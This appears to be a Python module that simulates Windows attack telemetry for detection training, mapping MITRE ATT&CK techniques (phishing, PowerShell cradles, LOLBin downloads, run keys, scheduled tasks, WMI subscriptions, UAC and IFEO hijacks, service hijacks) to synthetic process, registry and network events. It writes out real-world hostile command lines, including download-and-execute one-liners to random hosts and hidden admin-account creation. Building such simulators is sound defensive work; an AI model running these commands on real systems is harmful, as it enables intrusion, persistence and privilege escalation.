"""Simulated Windows attacks, part 1: initial access, execution, persistence, privilege escalation,
defense evasion and credential access.

Each generator re-creates the observable behaviour that MITRE ATT&CK, Atomic Red Team tests and
the LOLBAS project document for the technique id it is registered under (process chains, command
line shapes, file/registry/network side effects). Written from those descriptions, with every
name, path, address and ordering drawn at random.
"""

from __future__ import annotations

from pipeline.training.sim.catalog import Registry
from pipeline.training.sim.session import Session, win_desktop
from pipeline.training.sim.vocab import powershell, sys32
from schemas.events import Platform

REG = Registry(Platform.WINDOWS)
add = REG.add
HKCU_RUN = r"HKU\{sid}\Software\Microsoft\Windows\CurrentVersion\Run"
LSASS_RIGHTS = (0x1010, 0x1410, 0x1FFFFF, 0x1438, 0x143A, 0x1F3FFF, 0x40)


def _sid(s: Session) -> str:
    return f"S-1-5-21-{s.r.num(10**9, 4 * 10**9)}-{s.r.num(10**9, 4 * 10**9)}-{s.r.num(1000, 9999)}"


def _payload_path(s: Session, ext: str = "exe") -> str:
    return f"{s.wdir()}\\{s.r.name(ext)}"


def _download(s: Session, dest: str) -> None:
    """A LOLBin or PowerShell fetches a file (T1105), a common first step of many chains."""
    url = f"http{s.r.pick(('', 's'))}://{s.r.pick((s.r.ext_ip(), s.r.domain()))}/{s.r.name(dest.rsplit('.', 1)[-1])}"
    choice = s.r.rng.randrange(4)
    if choice == 0:
        proc = s.run(sys32(s.r, "certutil.exe"), f"certutil.exe -urlcache -split -f {url} {dest}", via_shell=0.4)
    elif choice == 1:
        proc = s.ps(f"Invoke-WebRequest -Uri {url} -OutFile {dest}", encoded=0.2)
    elif choice == 2:
        proc = s.run(sys32(s.r, "bitsadmin.exe"), f"bitsadmin /transfer {s.r.token()} /download /priority high {url} {dest}")
    else:
        proc = s.run(sys32(s.r, "curl.exe"), f"curl.exe -s -o {dest} {url}", via_shell=0.3)
    s.b.dns(proc, url.split("/")[2])
    s.b.connect(proc, s.r.ext_ip(), 443 if url.startswith("https") else 80)
    s.b.create(proc, dest)
    s.b.write(proc, dest)


# --- InitialAccess (TA0001) -------------------------------------------------------------------

@add("T1566.001", "InitialAccess", entry=win_desktop)
def phishing_attachment(s: Session) -> None:
    """An Office document from mail spawns a script host or shell (macro)."""
    b, r = s.b, s.r
    office = r.pick(("WINWORD.EXE", "EXCEL.EXE", "POWERPNT.EXE"))
    doc = f"C:\\Users\\{s.user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{r.token(8, 8).upper()}\\{r.name(r.pick(('docm', 'xlsm', 'doc', 'xls')))}"
    if r.chance(0.6):
        outlook = s.run("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", '"OUTLOOK.EXE"', attack=False)
        b.write(outlook, doc)
    app = s.run(f"C:\\Program Files\\Microsoft Office\\root\\Office16\\{office}", f'"{office}" /n "{doc}" /o ""')
    b.load(app, sys32(r, "VBE7.DLL") if r.chance(0.5) else "C:\\Program Files\\Common Files\\Microsoft Shared\\VBA\\VBA7.1\\VBE7.DLL")
    sub = s.r.rng.randrange(4)
    child_shell = Session(b, r, s.user, app, s.dirs)
    if sub == 0:
        child_shell.ps(f"IEX (New-Object Net.WebClient).DownloadString('http://{r.domain()}/{r.name('ps1')}')", encoded=0.6)
    elif sub == 1:
        dest = f"C:\\Users\\{s.user}\\AppData\\Local\\Temp\\{r.name('exe')}"
        _download(child_shell, dest)
        child_shell.run(dest, dest)
    elif sub == 2:
        vbs = f"C:\\Users\\{s.user}\\AppData\\Local\\Temp\\{r.name(r.pick(('vbs', 'js')))}"
        b.write(app, vbs)
        child_shell.run(sys32(r, r.pick(("wscript.exe", "cscript.exe"))), f'wscript.exe "{vbs}"')
    else:
        dll = f"C:\\Users\\{s.user}\\AppData\\Local\\Temp\\{r.name('dll')}"
        b.write(app, dll)
        child_shell.run(sys32(r, r.pick(("rundll32.exe", "regsvr32.exe"))), f"rundll32.exe {dll},{r.pick(('DllRegisterServer', 'Start', '#1'))}")


@add("T1566.002", "InitialAccess", entry=win_desktop)
def phishing_link_container(s: Session) -> None:
    """A downloaded archive/ISO holds a shortcut or script that the user opens (HTML smuggling, LNK)."""
    b, r = s.b, s.r
    browser = s.run(r.pick(("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                            "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe")), "chrome.exe", attack=False)
    container = f"C:\\Users\\{s.user}\\Downloads\\{r.name(r.pick(('iso', 'zip', 'img', 'vhd')))}"
    b.dns(browser, r.domain())
    b.write(browser, container)
    drive = r.pick(("D:", "E:", "F:")) if container.endswith(("iso", "img", "vhd")) else f"C:\\Users\\{s.user}\\AppData\\Local\\Temp\\Temp1_{r.token()}"
    lure = r.pick((f"{drive}\\{r.name('lnk')}", f"{drive}\\{r.name('js')}", f"{drive}\\{r.name('hta')}"))
    if lure.endswith("lnk"):
        p = s.run(sys32(r, "cmd.exe"), f"cmd.exe /c start /min rundll32 {drive}\\{r.name('dll')},{r.token(4, 9)}")
        s.run(sys32(r, "rundll32.exe"), f"rundll32 {drive}\\{r.name('dll')},{r.token(4, 9)}", parent=p)
    elif lure.endswith("js"):
        p = s.run(sys32(r, "wscript.exe"), f'"C:\\Windows\\System32\\WScript.exe" "{lure}"')
        Session(b, r, s.user, p, s.dirs).ps(f"iwr http://{r.domain()}/{r.name('txt')} -useb | iex", encoded=0.5)
    else:
        p = s.run(sys32(r, "mshta.exe"), f'"C:\\Windows\\System32\\mshta.exe" "{lure}"')
        b.connect(p, r.ext_ip(), 443)
        Session(b, r, s.user, p, s.dirs).ps(f"Start-BitsTransfer http://{r.domain()}/a -Dest $env:temp\\{r.name('exe')}")


@add("T1190", "InitialAccess", entry=win_desktop)
def exploit_public_app(s: Session) -> None:
    """A server process (IIS worker, Java app server, SQL Server, Exchange) spawns a shell."""
    b, r = s.b, s.r
    server = b.existing(r.pick((sys32(r, "inetsrv\\w3wp.exe"), "C:\\Program Files\\Java\\jre1.8.0_301\\bin\\java.exe",
                                "C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe",
                                "C:\\Program Files\\Apache Software Foundation\\Tomcat 9.0\\bin\\tomcat9.exe")),
                        user=r.pick(("IIS APPPOOL\\DefaultAppPool", "NT AUTHORITY\\NETWORK SERVICE", "NT SERVICE\\MSSQLSERVER")))
    if server.image.endswith("w3wp.exe") and r.chance(0.5):
        sub = r.pick(("aspnet_client", "owa\\auth", "uploads"))
        shell_path = f"C:\\inetpub\\wwwroot\\{sub}\\{r.name('aspx')}"
        b.create(server, shell_path)
        b.write(server, shell_path, r.num(500, 5000))
    cmd = s.run(sys32(r, "cmd.exe"), r.pick((f'cmd.exe /c "cd /d C:\\inetpub\\wwwroot&{r.pick(("whoami", "ipconfig", "hostname"))}&echo [S]&cd&echo [E]"',
                                             "cmd.exe /c whoami /all", f"cmd.exe /c powershell -enc {r.ps_enc('whoami; hostname')}")),
                parent=server)
    for command in r.sample(("whoami", "hostname", "ipconfig /all", "net user", "systeminfo"), r.num(1, 3)):
        s.run(sys32(r, command.split()[0] + ".exe"), command, parent=cmd)
    if r.chance(0.6):
        _download(Session(b, r, s.user, cmd, s.dirs), f"C:\\Windows\\Temp\\{r.name('exe')}")


@add("T1133", "InitialAccess", entry=win_desktop)
def external_remote_service_dropper(s: Session) -> None:
    """A user double-clicks a fake installer from Downloads that unpacks and runs a second stage."""
    b, r = s.b, s.r
    dropper_path = f"C:\\Users\\{s.user}\\Downloads\\{r.pick(('Invoice', 'Setup', 'Zoom_Installer', 'Document', 'Scan'))}_{r.num(100, 99999)}.exe"
    dropper = s.run(dropper_path, f'"{dropper_path}"')
    b.dns(dropper, r.domain())
    b.connect(dropper, r.ext_ip(), r.pick((443, 80)))
    stage2 = f"C:\\Users\\{s.user}\\AppData\\{r.pick(('Roaming', 'Local'))}\\{r.word().capitalize()}\\{r.name('exe')}"
    b.create(dropper, stage2)
    b.write(dropper, stage2)
    child = s.run(stage2, f'"{stage2}" {r.pick(("", "--install", "/s", "-k"))}', parent=dropper)
    b.reg(child, HKCU_RUN.format(sid=_sid(s)), r.word(), stage2)
    b.connect(child, r.ext_ip(), r.pick((443, 8443, 80)))


# --- Execution (TA0002) ------------------------------------------------------------------------

@add("T1059.001", "Execution")
def powershell_cradle(s: Session) -> None:
    """Encoded/hidden PowerShell downloads and runs code in memory."""
    r = s.r
    url = f"http://{r.pick((r.ext_ip(), r.domain()))}/{r.name(r.pick(('ps1', 'txt', '')))}"
    script = r.pick((f"IEX (New-Object Net.WebClient).DownloadString('{url}')",
                     f"$w=New-Object System.Net.WebClient;$w.Proxy.Credentials=[Net.CredentialCache]::DefaultNetworkCredentials;iex $w.DownloadString('{url}')",
                     f"[System.Reflection.Assembly]::Load((iwr '{url}' -UseBasicParsing).Content)",
                     f"sal a New-Object;iex(a IO.StreamReader((a IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('{r.b64()}'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()"))
    proc = s.ps(script, encoded=0.6, flags=r.pick(("-nop -w hidden -noni", "-NoP -sta -NonI -W Hidden", "-ep bypass -w 1")))
    s.b.connect(proc, r.ext_ip(), r.pick((80, 443, 8080)))


@add("T1059.005", "Execution")
def script_host(s: Session) -> None:
    """wscript/cscript runs a dropped VBS/JS that launches a payload."""
    b, r = s.b, s.r
    script = f"{s.wdir()}\\{r.name(r.pick(('vbs', 'js', 'jse', 'vbe', 'wsf')))}"
    b.write(s.shell, script, r.num(300, 20000))
    host = s.run(sys32(r, r.pick(("wscript.exe", "cscript.exe"))), f'{r.pick(("wscript.exe", "cscript.exe //nologo", "wscript //B"))} "{script}"')
    payload = _payload_path(s)
    b.write(host, payload)
    Session(b, r, s.user, host, s.dirs).run(payload, f'"{payload}"')


@add("T1047", "Execution")
def wmic_process_create(s: Session) -> None:
    """WMI creates a process (wmic process call create / Invoke-CimMethod); WmiPrvSE is its parent."""
    b, r = s.b, s.r
    payload = r.pick((_payload_path(s), f"powershell -enc {r.b64()}", f"rundll32 {_payload_path(s, 'dll')},Start"))
    s.run(sys32(r, "wbem\\WMIC.exe"), f'wmic process call create "{payload}"', via_shell=0.3)
    wmi = b.existing(sys32(r, "wbem\\WmiPrvSE.exe"), user="NT AUTHORITY\\NETWORK SERVICE")
    image = payload.split()[0] if "\\" in payload.split()[0] else sys32(r, payload.split()[0] + ".exe")
    s.run(image, payload, parent=wmi)


@add("T1218.011", "Execution")
def rundll32_payload(s: Session) -> None:
    """rundll32 runs an exported function of a dropped DLL, or JavaScript via mshtml."""
    b, r = s.b, s.r
    if r.chance(0.3):
        cmd = f'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://{r.domain()}/{r.name("sct")}")'
    else:
        dll = _payload_path(s, r.pick(("dll", "dat", "tmp", "cpl", "ocx")))
        b.write(s.shell, dll)
        cmd = f"rundll32.exe {dll},{r.pick(('DllRegisterServer', 'Start', 'EntryPoint', '#1', 'Run', r.token(5, 10)))}"
    p = s.run(sys32(r, "rundll32.exe"), cmd)
    b.connect(p, r.ext_ip(), r.pick((443, 80, 8443)))


@add("T1204.002", "Execution")
def user_runs_payload(s: Session) -> None:
    """A payload in a user folder runs, then spawns a shell and reaches out."""
    b, r = s.b, s.r
    folder = r.pick(("Downloads", "Desktop", "AppData\\Local\\Temp"))
    payload = f"C:\\Users\\{s.user}\\{folder}\\{r.name(r.pick(('exe', 'scr', 'pif')))}"
    p = s.run(payload, f'"{payload}"')
    b.connect(p, r.ext_ip(), r.pick((443, 4444, 8080)))
    shell = s.run(sys32(r, "cmd.exe"), "cmd.exe", parent=p)
    for c in r.sample(("whoami", "hostname", "ipconfig"), r.num(0, 2)):
        s.run(sys32(r, f"{c}.exe"), c, parent=shell)


@add("T1569.002", "Execution")
def service_execution(s: Session) -> None:
    """A throw-away service runs a command (sc create + start), as PsExec-like tools do."""
    b, r = s.b, s.r
    name = r.pick((r.token(6, 10), f"{r.word()}svc", f"PSEXESVC{r.token(0, 3)}"))
    payload = r.pick((f"%COMSPEC% /Q /c echo {r.token()} ^> \\\\.\\pipe\\{r.token()} > nul", _payload_path(s),
                      f"cmd.exe /c powershell -enc {r.b64()}"))
    s.run(sys32(r, "sc.exe"), f'sc create {name} binPath= "{payload}" start= demand', via_shell=0.3)
    s.run(sys32(r, "sc.exe"), f"sc start {name}")
    services = b.existing(sys32(r, "services.exe"), user="NT AUTHORITY\\SYSTEM")
    b.reg(services, f"HKLM\\System\\CurrentControlSet\\Services\\{name}\\ImagePath", "ImagePath", payload)
    runner = s.run(sys32(r, "cmd.exe"), payload if payload.startswith("cmd") else f"cmd.exe /c {payload}", parent=services, user="NT AUTHORITY\\SYSTEM", integrity="System")
    if r.chance(0.4):  # smbexec-style: the service writes a batch file, runs it quietly, deletes it
        bat = f"C:\\Windows\\TEMP\\{r.pick(('execute', r.token(4, 8)))}.bat"
        b.write(runner, bat, r.num(40, 300))
        s.run(sys32(r, "cmd.exe"), f"cmd.exe /Q /c {bat}", parent=runner, user="NT AUTHORITY\\SYSTEM", integrity="System")
        b.delete(runner, bat)


# --- Persistence (TA0003) ----------------------------------------------------------------------

@add("T1547.001", "Persistence")
def run_key(s: Session) -> None:
    """A Run/RunOnce value points at a payload in a user-writable folder."""
    b, r = s.b, s.r
    payload = _payload_path(s, r.pick(("exe", "vbs", "bat", "ps1")))
    hive = r.pick(("HKCU", "HKLM"))
    sub = r.pick(("Run", "RunOnce", "Policies\\Explorer\\Run"))
    name = r.pick((r.word().capitalize(), r.token(), "WindowsUpdate", "OneDriveSync"))
    if r.chance(0.6):
        p = s.run(sys32(r, "reg.exe"), f'reg add "{hive}\\Software\\Microsoft\\Windows\\CurrentVersion\\{sub}" /v {name} /t REG_SZ /d "{payload}" /f', via_shell=0.4)
    else:
        p = s.ps(f"New-ItemProperty -Path '{hive}:\\Software\\Microsoft\\Windows\\CurrentVersion\\{sub}' -Name {name} -Value '{payload}' -PropertyType String -Force")
    key = HKCU_RUN.format(sid=_sid(s)) if hive == "HKCU" else "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"
    b.reg(p, f"{key.rsplit(chr(92), 1)[0]}\\{sub}\\{name}", name, payload)


@add("T1053.005", "Persistence")
def scheduled_task(s: Session) -> None:
    """schtasks /create runs a payload at logon/startup or on a timer, often as SYSTEM."""
    b, r = s.b, s.r
    payload = r.pick((_payload_path(s), f"powershell.exe -w hidden -enc {r.b64(40, 200)}", f"cmd /c {_payload_path(s, 'bat')}",
                      f"rundll32.exe {_payload_path(s, 'dll')},Start"))
    name = r.pick((f"\\Microsoft\\Windows\\{r.word().capitalize()}\\{r.word().capitalize()}", r.word().capitalize() + "Update", r.token()))
    trigger = r.pick(("/sc onlogon", "/sc onstart", f"/sc minute /mo {r.num(1, 60)}", "/sc daily /st 09:00", "/sc onidle /i 5"))
    ru = r.pick((" /ru system", " /ru SYSTEM /rl highest", "", ""))
    p = s.run(sys32(r, "schtasks.exe"), f'schtasks /create /tn "{name}" /tr "{payload}" {trigger}{ru} /f', via_shell=0.4)
    b.write(p, f"C:\\Windows\\System32\\Tasks\\{name.strip(chr(92))}")
    b.reg(p, f"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\{name.strip(chr(92))}\\Id", "Id", r.guid())


@add("T1543.003", "Persistence")
def new_service(s: Session) -> None:
    """A new auto-start service whose binary lives outside Program Files/System32."""
    b, r = s.b, s.r
    name = r.pick((r.token(5, 10), f"{r.word()}{r.word()}", "WinDefendUpdate"))
    payload = _payload_path(s)
    if r.chance(0.6):
        p = s.run(sys32(r, "sc.exe"), f'sc.exe create {name} binPath= "{payload}" start= auto DisplayName= "{r.word().capitalize()} Service"', via_shell=0.3)
    else:
        p = s.ps(f"New-Service -Name {name} -BinaryPathName '{payload}' -StartupType Automatic")
    services = b.existing(sys32(r, "services.exe"), user="NT AUTHORITY\\SYSTEM")
    b.reg(services, f"HKLM\\System\\CurrentControlSet\\Services\\{name}\\ImagePath", "ImagePath", payload)
    b.reg(services, f"HKLM\\System\\CurrentControlSet\\Services\\{name}\\Start", "Start", "DWORD (0x00000002)")
    del p


@add("T1136.001", "Persistence")
def create_account(s: Session) -> None:
    """A local account is created and added to Administrators / Remote Desktop Users."""
    r = s.r
    user = r.pick((r.token(4, 8), "support", "admin" + str(r.num(1, 99)), "defaultuser", "helpdesk$"))
    pw = r.token(8, 14, "abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789!@#")
    s.run(sys32(r, "net.exe"), f"net user {user} {pw} /add{r.pick(('', ' /domain', ' /expires:never'))}", via_shell=0.4)
    for group in r.sample(("administrators", "\"Remote Desktop Users\"", "\"Domain Admins\""), r.num(1, 2)):
        s.run(sys32(r, "net.exe"), f"net localgroup {group} {user} /add", via_shell=0.4)
    if r.chance(0.3):
        s.run(sys32(r, "reg.exe"), f'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts\\UserList" /v {user} /t REG_DWORD /d 0 /f')


@add("T1546.003", "Persistence")
def wmi_subscription(s: Session) -> None:
    """A WMI event filter + consumer + binding that runs a command on an event."""
    r = s.r
    name = r.token(5, 10)
    payload = r.pick((_payload_path(s), f"powershell -enc {r.b64(40, 200)}"))
    script = (f"$f=Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{{Name='{name}';EventNameSpace='root\\cimv2';QueryLanguage='WQL';"
              f"Query=\"SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'\"}};"
              f"$c=Set-WmiInstance -Namespace root\\subscription -Class CommandLineEventConsumer -Arguments @{{Name='{name}';CommandLineTemplate='{payload}'}};"
              "Set-WmiInstance -Namespace root\\subscription -Class __FilterToConsumerBinding -Arguments @{Filter=$f;Consumer=$c}")
    if r.chance(0.5):
        s.ps(script, encoded=0.4)
    else:
        s.run(sys32(r, "wbem\\WMIC.exe"), f'wmic /NAMESPACE:"\\\\root\\subscription" PATH CommandLineEventConsumer CREATE Name="{name}", CommandLineTemplate="{payload}"')
        s.run(sys32(r, "wbem\\WMIC.exe"), f'wmic /NAMESPACE:"\\\\root\\subscription" PATH __EventFilter CREATE Name="{name}", EventNameSpace="root\\cimv2", QueryLanguage="WQL", Query="SELECT * FROM __InstanceModificationEvent"')


@add("T1547.009", "Persistence")
def startup_folder(s: Session) -> None:
    """A shortcut or script is dropped in a Startup folder."""
    b, r = s.b, s.r
    folder = r.pick((f"C:\\Users\\{s.user}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup",
                     "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp"))
    target = f"{folder}\\{r.name(r.pick(('lnk', 'vbs', 'bat', 'exe', 'hta')))}"
    if r.chance(0.5):
        p = s.run(sys32(r, "cmd.exe"), f'cmd.exe /c copy /y {_payload_path(s)} "{target}"')
    else:
        p = s.ps(f"$s=(New-Object -COM WScript.Shell).CreateShortcut('{target}');$s.TargetPath='{_payload_path(s)}';$s.Save()")
    b.create(p, target)
    b.write(p, target)


@add("T1546.012", "Persistence")
def ifeo_debugger(s: Session) -> None:
    """Image File Execution Options / SilentProcessExit redirect an accessibility binary."""
    b, r = s.b, s.r
    victim = r.pick(("sethc.exe", "utilman.exe", "osk.exe", "magnify.exe", "notepad.exe", "narrator.exe"))
    debugger = r.pick((sys32(r, "cmd.exe"), _payload_path(s)))
    key = f"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\{victim}"
    p = s.run(sys32(r, "reg.exe"), f'reg add "{key}" /v Debugger /t REG_SZ /d "{debugger}" /f', via_shell=0.3)
    b.reg(p, f"{key}\\Debugger", "Debugger", debugger)


@add("T1505.003", "Persistence", entry=win_desktop)
def web_shell(s: Session) -> None:
    """The web server writes a script into its web root and later runs commands through it."""
    b, r = s.b, s.r
    w3wp = b.existing(sys32(r, "inetsrv\\w3wp.exe"), user="IIS APPPOOL\\DefaultAppPool")
    sub = r.pick(("", "aspnet_client\\system_web\\", "owa\\auth\\"))
    path = f"C:\\inetpub\\wwwroot\\{sub}{r.name(r.pick(('aspx', 'ashx', 'asp')))}"
    b.create(w3wp, path)
    b.write(w3wp, path, r.num(300, 9000))
    for _ in range(r.num(1, 4)):
        command = r.pick(("whoami", "dir c:\\", "net user", "ipconfig", "tasklist"))
        s.run(sys32(r, "cmd.exe"), f"cmd.exe /c {command}", parent=w3wp)


# --- PrivilegeEscalation (TA0004) --------------------------------------------------------------

@add("T1548.002", "PrivilegeEscalation")
def uac_bypass_registry(s: Session) -> None:
    """UAC bypass: a per-user shell\\open\\command key hijacks an auto-elevating binary."""
    b, r = s.b, s.r
    target, progid = r.pick((("fodhelper.exe", "ms-settings"), ("computerdefaults.exe", "ms-settings"),
                             ("eventvwr.exe", "mscfile"), ("sdclt.exe", "Folder"), ("wsreset.exe", "AppX82a6gwre4fdg3bt635tn5ctqjf8msdd2")))
    payload = r.pick((sys32(r, "cmd.exe"), f"powershell -enc {r.b64(40, 200)}", _payload_path(s)))
    key = f"HKU\\{_sid(s)}_Classes\\{progid}\\Shell\\Open\\command"
    setter = r.chance(0.5)
    if setter:
        p = s.run(sys32(r, "reg.exe"), f'reg add HKCU\\Software\\Classes\\{progid}\\Shell\\Open\\command /d "{payload}" /f', via_shell=0.3)
        s.run(sys32(r, "reg.exe"), f'reg add HKCU\\Software\\Classes\\{progid}\\Shell\\Open\\command /v DelegateExecute /f')
    else:
        p = s.ps(f"New-Item 'HKCU:\\Software\\Classes\\{progid}\\Shell\\Open\\command' -Force; Set-ItemProperty -Path 'HKCU:\\Software\\Classes\\{progid}\\Shell\\Open\\command' -Name '(default)' -Value '{payload}' -Force; Start-Process {target}")
    b.reg(p, f"{key}\\(Default)", "(Default)", payload)
    b.reg(p, f"{key}\\DelegateExecute", "DelegateExecute", "")
    elevated = s.run(sys32(r, target), f'"C:\\Windows\\system32\\{target}"', integrity="High")
    image = payload.split()[0] if "\\" in payload.split()[0] else powershell(r)
    s.run(image, payload, parent=elevated, integrity="High")


@add("T1134.001", "PrivilegeEscalation")
def named_pipe_getsystem(s: Session) -> None:
    """Named-pipe impersonation (getsystem): a service echoes into the attacker's pipe."""
    b, r = s.b, s.r
    pipe = r.token(6, 10)
    services = b.existing(sys32(r, "services.exe"), user="NT AUTHORITY\\SYSTEM")
    svc = r.token(7, 7)
    s.run(sys32(r, "sc.exe"), f'sc create {svc} binPath= "cmd.exe /c echo {r.token(6, 6)} > \\\\.\\pipe\\{pipe}"', via_shell=0.2)
    b.reg(services, f"HKLM\\System\\CurrentControlSet\\Services\\{svc}\\ImagePath", "ImagePath", f"cmd.exe /c echo > \\\\.\\pipe\\{pipe}")
    s.run(sys32(r, "cmd.exe"), f"cmd.exe /c echo {r.token(6, 6)} > \\\\.\\pipe\\{pipe}", parent=services, user="NT AUTHORITY\\SYSTEM", integrity="System")
    s.run(sys32(r, "cmd.exe"), "cmd.exe", user="NT AUTHORITY\\SYSTEM", integrity="System")


@add("T1068", "PrivilegeEscalation", entry=win_desktop)
def print_spooler_exploit(s: Session) -> None:
    """A spooler exploit (PrintNightmare-like) loads a driver DLL from the spool folder and runs as SYSTEM."""
    b, r = s.b, s.r
    spool = b.existing(sys32(r, "spoolsv.exe"), user="NT AUTHORITY\\SYSTEM")
    dll = f"C:\\Windows\\System32\\spool\\drivers\\x64\\3\\{r.pick(('New', 'Old'))}\\{r.num(1, 9)}\\{r.name('dll')}"
    b.create(spool, dll)
    b.load(spool, dll, signed=False)
    for _ in range(r.num(1, 2)):
        s.run(sys32(r, r.pick(("rundll32.exe", "cmd.exe"))), r.pick((f"rundll32.exe {dll},Start", "cmd.exe /c net user hacker P@ss123 /add")),
              parent=spool, user="NT AUTHORITY\\SYSTEM", integrity="System")


@add("T1574.011", "PrivilegeEscalation")
def service_binpath_hijack(s: Session) -> None:
    """A service the user may reconfigure is pointed at a payload and restarted (Atomic T1574.011)."""
    b, r = s.b, s.r
    svc = r.pick(("Fax", "AppReadiness", "upnphost", "SSDPSRV", "wuauserv", r.token()))
    payload = r.pick((_payload_path(s), f"cmd.exe /c net localgroup administrators {s.user} /add"))
    s.run(sys32(r, "sc.exe"), f'sc config {svc} binPath= "{payload}"', via_shell=0.3)
    if r.chance(0.5):
        s.run(sys32(r, "reg.exe"), f'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Services\\{svc}" /v ImagePath /t REG_EXPAND_SZ /d "{payload}" /f')
    s.run(sys32(r, "sc.exe"), f"sc start {svc}")
    services = b.existing(sys32(r, "services.exe"), user="NT AUTHORITY\\SYSTEM")
    b.reg(services, f"HKLM\\System\\CurrentControlSet\\Services\\{svc}\\ImagePath", "ImagePath", payload)
    image = payload if not payload.startswith("cmd") else sys32(r, "cmd.exe")
    s.run(image, payload, parent=services, user="NT AUTHORITY\\SYSTEM", integrity="System")


@add("T1055.012", "PrivilegeEscalation")
def token_process_injection(s: Session) -> None:
    """A tool opens a SYSTEM process, duplicates its token and starts a SYSTEM shell."""
    b, r = s.b, s.r
    tool = _payload_path(s)
    p = s.run(tool, f"{tool} {r.pick(('-p', '--pid', '-c', 'exec'))} {r.pick(('cmd.exe', 'powershell.exe', 'whoami'))}", integrity="High")
    target = b.existing(sys32(r, r.pick(("winlogon.exe", "lsass.exe", "services.exe", "spoolsv.exe"))), user="NT AUTHORITY\\SYSTEM")
    b.access(p, target, r.pick((0x1FFFFF, 0x1400, 0x0400, 0x1000)))
    s.run(sys32(r, "cmd.exe"), "cmd.exe", parent=p, user="NT AUTHORITY\\SYSTEM", integrity="System")
